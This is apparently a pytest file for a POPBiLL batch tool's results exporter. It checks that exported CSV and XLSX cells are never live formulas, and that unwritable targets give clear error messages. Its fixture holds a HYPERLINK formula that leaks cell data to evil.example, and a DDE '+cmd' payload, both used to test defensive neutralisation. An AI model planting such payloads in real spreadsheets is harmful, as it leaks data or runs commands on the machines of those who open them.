"""Results files: no cell is ever a formula, numbers stay numbers, and a target that cannot be replaced
(a folder, read-only, a folder without write permission, a file open in Excel on Windows) gets one clear
sentence instead of an internal error."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import openpyxl
import pytest

from popbill_gui.batch import export
from popbill_gui.batch.export import (
    ExportNameError,
    ResultsFileError,
    check_results_target,
    result_table,
    write_results,
)
from popbill_gui.batch.model import RowOutcome, RowState
from popbill_gui.batch.reader import read_batch
from popbill_gui.core.cells import FORMULA_STARTS
from popbill_gui.core.export_names import export_name_problem
from popbill_gui.core.messages import CATALOG

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def hostile_results(tmp_path: Path) -> list[list[object]]:
    """A resend batch as an attacker would prepare it: a valid address that is a formula, and an invalid row
    whose raw text (exported as it was) is one."""
    source = tmp_path / "mails.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["MgtKeyType", "MgtKey", "Receiver"],
                ["SELL", "INV-1", "=1+2@example.com"],
                ["SELL", HYPERLINK, "b@example.com"],
                ["SELL", "-7", "+1-1@example.com"],
            ]
        )
    batch = read_batch(source, "resend_email")
    assert [row.valid for row in batch.rows] == [True, False, True]  # the formula address passes the e-mail rule
    outcomes = {
        2: RowOutcome(2, RowState.DONE, 1, "완료"),
        3: RowOutcome(3, RowState.SKIPPED),
        4: RowOutcome(4, RowState.FAILED, -11000005, "+cmd|' /C calc'!A0"),  # even POPBiLL's message
    }
    return result_table("resend_email", batch.rows, outcomes, "en")


def read_csv(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def xlsx_cells(path: Path) -> list[list[openpyxl.cell.cell.Cell]]:
    book = openpyxl.load_workbook(path)  # not read-only: every cell with its data type
    rows = [list(row) for row in book.worksheets[0].iter_rows()]
    book.close()
    return rows


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def no_temporary_files(folder: Path) -> bool:
    return not [p for p in folder.iterdir() if p.name.startswith(".")]


# ---- no formulas ----


def test_xlsx_results_hold_text_cells_never_formulas(tmp_path: Path) -> None:
    table = hostile_results(tmp_path)
    target = write_results(tmp_path / "results.xlsx", table)
    cells = xlsx_cells(target)
    assert "<f>" not in sheet_xml(target)  # no formula element anywhere in the sheet
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    assert [[c.data_type for c in row[:5]] for row in cells[1:]] == [["n", "s", "s", "s", "s"]] * 3
    assert [[c.value for c in row] for row in cells] == [[None if v == "" else v for v in line] for line in table]
    assert cells[2][2].value == HYPERLINK and cells[2][2].quotePrefix  # shown as typed with ', kept text on edit
    assert cells[1][3].value == "=1+2@example.com"
    assert cells[3][5].value == -11000005  # numbers stay numbers


def test_csv_results_quote_what_would_run_and_read_back_as_they_were(tmp_path: Path) -> None:
    table = hostile_results(tmp_path)
    target = write_results(tmp_path / "results.csv", table)
    lines = read_csv(target)
    assert lines[1][3] == "'=1+2@example.com"
    assert lines[2][2] == "'" + HYPERLINK
    assert lines[3][6] == "'+cmd|' /C calc'!A0"
    assert lines[3][5] == "-11000005" and lines[3][0] == "4"  # numbers are written as numbers
    assert lines[3][2] == "-7"  # a key that is a plain number cannot run: kept as it is
    for line in lines:
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit(), cell
    # The results file can be fed back in: the reader takes the protecting quote off again.
    again = read_batch(target, "resend_email")
    assert [row.values["receiver"] for row in again.rows] == [
        "=1+2@example.com",
        "b@example.com",
        "+1-1@example.com",
    ]
    assert again.rows[1].values["mgt_key"] == HYPERLINK


def test_history_style_tables_error_codes_and_control_characters(tmp_path: Path) -> None:
    """What the history dialog exports: header texts, numbers, empty cells, text that openpyxl would type as
    an error value or refuse (control characters)."""
    table: list[Sequence[object]] = [
        ["Time", "Code", "Message", "Duration (ms)"],
        ["2024-03-01T10:00:00+09:00", -11000005, "#N/A", 123],
        ["2024-03-01T10:00:01+09:00", "", "bell\x07 and \x1b escape", ""],
        ["2024-03-01T10:00:02+09:00", 1, "@bad", 241124150000000012],
    ]
    target = write_results(tmp_path / "history.xlsx", table)
    cells = xlsx_cells(target)
    assert [c.value for c in cells[1]] == ["2024-03-01T10:00:00+09:00", -11000005, "#N/A", 123]
    assert cells[1][2].data_type == "s"  # text, not Excel's error value
    assert cells[2][2].value == "bell\ufffd and \ufffd escape"
    assert cells[3][3].value == "241124150000000012" and cells[3][3].data_type == "s"  # 18 digits stay exact
    csv_lines = read_csv(write_results(tmp_path / "history.csv", table))
    assert csv_lines[3][2] == "'@bad" and csv_lines[1][1] == "-11000005"


# ---- targets that cannot be replaced ----


def test_a_folder_as_target(tmp_path: Path) -> None:
    folder = tmp_path / "results.xlsx"
    folder.mkdir()
    with pytest.raises(ResultsFileError) as caught:
        write_results(folder, [["a"]])
    error = caught.value
    assert error.key == "results.is_folder" and isinstance(error, OSError)
    assert "folder" in error.describe("en") and "폴더" in error.describe("ko") and str(folder) in str(error)
    assert folder.is_dir() and no_temporary_files(tmp_path)


def test_a_read_only_file_is_not_replaced(tmp_path: Path) -> None:
    target = tmp_path / "results.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o444)
    with pytest.raises(ResultsFileError) as caught:
        write_results(target, [["new"]])
    assert caught.value.key == "results.read_only"
    assert "읽기 전용" in caught.value.describe("ko") and "read-only" in caught.value.describe("en")
    assert target.read_text(encoding="utf-8") == "old" and no_temporary_files(tmp_path)


def test_a_folder_inside_a_file_is_not_writable(tmp_path: Path) -> None:
    (tmp_path / "a file").write_text("x", encoding="utf-8")
    with pytest.raises(ResultsFileError) as caught:
        write_results(tmp_path / "a file" / "results.csv", [["a"]])
    assert caught.value.key == "results.not_writable"


def _unprivileged() -> list[str]:
    """A command prefix that runs without root's power to ignore permissions ([] when not root)."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a read-only folder cannot refuse anything")
    return [setpriv, "--inh-caps=-all", "--ambient-caps=-all", "--bounding-set=-all", "--"]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_a_read_only_folder(tmp_path: Path) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    script = """
import sys
from popbill_gui.batch.export import ResultsFileError, check_results_target, write_results
for attempt in (check_results_target, lambda path: write_results(path, [["Row", "Status"], [2, "done"]])):
    try:
        attempt(sys.argv[1])
    except ResultsFileError as exc:
        print(exc.key)
        print(exc.describe("en"))
"""
    try:
        out = subprocess.run(
            [*_unprivileged(), sys.executable, "-c", script, str(folder / "results.xlsx")],
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        folder.chmod(0o755)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert len(lines) == 4, out.stdout  # before the batch and after it, the same sentence
    assert lines[0] == lines[2] == "results.not_writable" and lines[1] == lines[3]
    assert str(folder) in lines[1] and "Permission denied" in lines[1]
    assert list(folder.iterdir()) == []


class WindowsReplace:
    """os.replace as Windows does it onto a file open in Excel: PermissionError, `refusals` times."""

    def __init__(self, refusals: int) -> None:
        self.refusals = refusals
        self.calls = 0
        self.real = os.replace

    def __call__(self, source: str, target: str) -> None:
        self.calls += 1
        if self.calls <= self.refusals:
            raise PermissionError(
                13, "The process cannot access the file because it is being used by another process", target
            )
        self.real(source, target)


def test_a_file_held_for_a_moment_is_replaced_after_a_short_retry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "results.csv"
    target.write_text("old", encoding="utf-8")
    replace = WindowsReplace(refusals=2)
    pauses: list[float] = []
    monkeypatch.setattr(os, "replace", replace)
    monkeypatch.setattr(export.time, "sleep", pauses.append)
    assert write_results(target, [["new"]]) == target
    assert replace.calls == 3 and pauses == list(export.REPLACE_DELAYS[:2])
    assert read_csv(target) == [["new"]] and no_temporary_files(tmp_path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_file_open_in_excel_gives_the_sentence_after_a_few_attempts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    target = tmp_path / f"results{suffix}"
    target.write_bytes(b"what Excel has open")
    replace = WindowsReplace(refusals=1000)
    pauses: list[float] = []
    monkeypatch.setattr(os, "replace", replace)
    monkeypatch.setattr(export.time, "sleep", pauses.append)
    with pytest.raises(ResultsFileError) as caught:
        write_results(target, [["Row"], [2]])
    error = caught.value
    assert error.key == "results.in_use" and isinstance(error, OSError)
    assert replace.calls == len(export.REPLACE_DELAYS) + 1 and pauses == list(export.REPLACE_DELAYS)
    assert sum(pauses) < 2  # a short retry: the clerk is waiting
    assert "such as Excel has it open, close it there and export again" in error.describe("en")
    assert "synced (OneDrive) or scanned" in error.describe("en") and "history" in error.describe("en")
    assert "엑셀 같은 다른 프로그램에 열려 있다면 그 프로그램에서 닫고 다시 내보내세요" in error.describe("ko")
    assert target.read_bytes() == b"what Excel has open" and no_temporary_files(tmp_path)


@pytest.mark.parametrize("name", ["결과.txt", "results.xls", "results", "results.csv.bak"])
def test_other_extensions_are_refused_with_a_sentence(tmp_path: Path, name: str) -> None:
    """The walk-through: exporting to 결과.txt wrote 결과.txt.xlsx. The name is refused, in words, nothing written."""
    for attempt in (lambda path: write_results(path, [["a"]]), check_results_target):
        with pytest.raises(ExportNameError) as caught:
            attempt(tmp_path / name)
        error = caught.value
        assert isinstance(error, ValueError) and isinstance(error, ResultsFileError)  # as callers caught it before
        assert error.key == "export.suffix" and f"{name}:" in error.describe("ko")
        assert ".csv or .xlsx" in error.describe("en") and ".csv 또는 .xlsx" in error.describe("ko")
    assert list(tmp_path.iterdir()) == []
    problem = export_name_problem(tmp_path / name)
    assert problem is not None and problem.describe("en") == error.describe("en")  # the check the window uses
    assert export_name_problem("결과.XLSX") is None and export_name_problem("결과.csv") is None


def test_every_results_sentence_is_in_both_languages() -> None:
    source = Path(export.__file__).read_text(encoding="utf-8")
    used = set(re.findall(r"\"(results\.[a-z_]+)\"", source))
    assert used == {
        "results.in_use", "results.is_folder", "results.read_only", "results.not_writable", "results.syncing",
        "results.scanned", "results.disk_full", "results.protected_folder",
    }  # fmt: skip
    for key in used:
        korean, english = CATALOG[key]
        assert korean and english and korean != english, key
        assert set(re.findall(r"{(\w+)", korean)) == set(re.findall(r"{(\w+)", english)), key


# A round trip with Korean names and text in every format the reader takes. `-X warn_default_encoding` makes any
# open() that would fall back on the system's code page (cp949 or cp1252 on Windows) an error; the console is ASCII.
ROUND_TRIP = """
import sys
from pathlib import Path
from popbill_gui.batch.export import ResultsFileError, result_table, write_results
from popbill_gui.batch.reader import BatchFileError, read_batch

folder = Path(sys.argv[1])
source = folder / "재전송 목록.csv"
source.write_bytes("문서유형,문서번호,수신메일,비고\\r\\nSELL,INV-1,담당자@example.com,3월분\\r\\n".encode("cp949"))
batch = read_batch(source, "resend_email")
for name in ("결과.csv", "결과.xlsx"):
    written = write_results(folder / name, result_table("resend_email", batch.rows, {}, "ko"))
    assert [row.values for row in read_batch(written, "resend_email").rows] == [row.values for row in batch.rows]
text = folder / "유니코드 텍스트.txt"
unicode_text = "문서유형\\t문서번호\\t수신메일\\r\\nSELL\\tINV-1\\ta@example.com\\r\\n"
text.write_bytes(b"\\xff\\xfe" + unicode_text.encode("utf-16-le"))
assert read_batch(text, "resend_email").encoding == "utf-16"
(folder / "폴더.xlsx").mkdir()
sentences = []
try:
    write_results(folder / "폴더.xlsx", [["가"]])
except ResultsFileError as exc:
    sentences.append(exc.describe("ko"))
try:
    read_batch(folder / "없는 파일.xlsx", "resend_email")
except BatchFileError as exc:
    sentences.append(exc.describe("ko"))
assert len(sentences) == 2
sys.stdout.write("ok")
"""


def test_reading_and_exporting_never_depend_on_the_console_or_system_encoding(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"}
    command = [
        sys.executable,
        "-X",
        "warn_default_encoding",
        "-W",
        "error::EncodingWarning",
        # openpyxl creates its scratch file with open(mode="w+") and closes it at once; it writes bytes by path.
        "-W",
        "ignore::EncodingWarning:openpyxl.worksheet._writer",
        "-c",
        ROUND_TRIP,
        str(tmp_path),
    ]
    out = subprocess.run(command, capture_output=True, text=True, encoding="utf-8", env=env, timeout=60)
    assert (out.returncode, out.stdout) == (0, "ok"), out.stderr


# ---- before the batch: refuse what is known to fail now ----


def test_check_results_target_before_anything_is_sent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    check_results_target(tmp_path / "new" / "results.xlsx")  # a folder still to be made: fine
    existing = tmp_path / "results.csv"
    existing.write_text("old", encoding="utf-8")
    check_results_target(existing)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]  # nothing made, nothing changed
    assert existing.read_text(encoding="utf-8") == "old"

    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ResultsFileError) as caught:
        check_results_target(tmp_path / "folder.csv")
    assert caught.value.key == "results.is_folder"
    existing.chmod(0o444)
    with pytest.raises(ResultsFileError) as caught:
        check_results_target(existing)
    assert caught.value.key == "results.read_only"
    existing.chmod(0o644)
    with pytest.raises(ValueError):
        check_results_target(tmp_path / "results.ods")

    def held_by_excel(path: object, mode: str = "r", *args: object, **kwargs: object) -> object:
        if Path(str(path)) == existing:  # Windows: Excel holds the file against writers
            raise PermissionError(13, "Permission denied", str(path))
        return open(path, mode, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(export, "open", held_by_excel, raising=False)
    with pytest.raises(ResultsFileError) as caught:
        check_results_target(existing)
    assert caught.value.key == "results.in_use"
    assert existing.read_text(encoding="utf-8") == "old"


# ---- the right cause (issue 21): what a refusal can tell ----
#
# Windows' refusals cannot happen here: they are made as Windows makes them (an OSError with its winerror) and handed
# to write_results where the real call would fail. The POSIX ones (a read-only file, a read-only folder, a read-only
# file system, a full disk) happen for real below.


def windows_error(kind: type[OSError], number: int, winerror: int, text: str, path: str) -> OSError:
    error = kind(number, text, path)
    error.winerror = winerror  # type: ignore[attr-defined]  # what CPython sets on Windows
    return error


class RefusingReplace:
    """os.replace as Windows refuses it: the same error every time."""

    def __init__(self, error: OSError) -> None:
        self.error = error
        self.calls = 0

    def __call__(self, source: str, target: str) -> None:
        self.calls += 1
        raise self.error


# (the error, its errno as CPython maps the winerror, the winerror, Windows' words, the sentence)
@pytest.mark.parametrize(
    ("kind", "number", "winerror", "text", "key"),
    [
        (PermissionError, 13, 32, "The process cannot access the file because it is being used by another process",
         "results.in_use"),
        (PermissionError, 13, 5, "Access is denied", "results.in_use"),  # MoveFileEx onto a file Excel holds open
        (OSError, 22, 362, "The cloud file provider is not running", "results.syncing"),
        (OSError, 22, 391, "The operation failed because the cloud file is in use", "results.syncing"),
        (OSError, 22, 225, "Operation did not complete successfully because the file contains a virus",
         "results.scanned"),
        (OSError, 28, 112, "There is not enough space on the disk", "results.disk_full"),
    ],
)  # fmt: skip
def test_a_refused_replace_says_what_windows_said(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    kind: type[OSError],
    number: int,
    winerror: int,
    text: str,
    key: str,
) -> None:
    target = tmp_path / "results.xlsx"
    target.write_bytes(b"the old results")
    refusing = RefusingReplace(windows_error(kind, number, winerror, text, str(target)))
    monkeypatch.setattr(os, "replace", refusing)
    monkeypatch.setattr(export.time, "sleep", lambda _: None)
    with pytest.raises(ResultsFileError) as caught:
        write_results(target, [["Row"], [2]])
    assert caught.value.key == key
    assert target.read_bytes() == b"the old results" and no_temporary_files(tmp_path)
    held = key in ("results.in_use", "results.syncing", "results.scanned")  # a moment's: tried a few times
    assert refusing.calls == (len(export.REPLACE_DELAYS) + 1 if held else 1)
    for lang in ("ko", "en"):
        assert "{" not in caught.value.describe(lang)


@pytest.mark.parametrize(("kind", "winerror"), [(FileNotFoundError, 2), (PermissionError, 5)])
def test_a_protected_folder_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: type[OSError], winerror: int
) -> None:
    """Controlled folder access answers "not found" (or "access denied") to a new file in a folder that exists."""

    def blocked(*args: object, **kwargs: object) -> object:
        raise windows_error(kind, 2 if winerror == 2 else 13, winerror, "blocked", str(tmp_path / "x"))

    monkeypatch.setattr(export.tempfile, "mkstemp", blocked)
    monkeypatch.setattr(export.tempfile, "TemporaryFile", blocked)
    for attempt in (check_results_target, lambda path: write_results(path, [["a"]])):
        with pytest.raises(ResultsFileError) as caught:
            attempt(tmp_path / "결과.xlsx")
        assert caught.value.key == "results.protected_folder"
        assert "Controlled folder access" in caught.value.describe(
            "en"
        ) and "제어된 폴더 액세스" in caught.value.describe("ko")
        assert str(tmp_path) in caught.value.describe("en")


def test_the_same_refusal_elsewhere_is_a_folder_without_permission(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without Windows' word for it (no winerror), a refused new file is a folder one cannot write to, as before."""

    def refused(*args: object, **kwargs: object) -> object:
        raise PermissionError(13, "Permission denied", str(tmp_path))

    monkeypatch.setattr(export.tempfile, "mkstemp", refused)
    with pytest.raises(ResultsFileError) as caught:
        write_results(tmp_path / "results.csv", [["a"]])
    assert caught.value.key == "results.not_writable"


@pytest.fixture
def mount_point(tmp_path: Path) -> Iterator[Callable[[str], Path]]:
    """A tiny tmpfs mounted for the test (root only; skipped where mounting is not allowed)."""
    mounted: list[Path] = []

    def mount(options: str) -> Path:
        where = tmp_path / f"mnt{len(mounted)}"
        where.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True)
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
        mounted.append(where)
        return where

    if sys.platform != "linux" or shutil.which("mount") is None:
        pytest.skip("needs Linux's mount")
    yield mount
    for where in mounted:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def test_a_full_disk_is_named(mount_point: Callable[[str], Path]) -> None:
    disk = mount_point("size=64k")
    (disk / "filler").write_bytes(b"\0" * 60 * 1024)
    with pytest.raises(ResultsFileError) as caught:
        write_results(disk / "results.csv", [["x" * 100]] * 2000)
    assert caught.value.key == "results.disk_full" and "full" in caught.value.describe("en")
    assert sorted(p.name for p in disk.iterdir()) == ["filler"]  # nothing half-written left


def test_a_read_only_file_system_is_named(mount_point: Callable[[str], Path]) -> None:
    disk = mount_point("size=64k,ro")
    for attempt in (check_results_target, lambda path: write_results(path, [["a"]])):
        with pytest.raises(ResultsFileError) as caught:
            attempt(disk / "results.xlsx")
        assert caught.value.key == "results.not_writable" and "Read-only file system" in caught.value.describe("en")
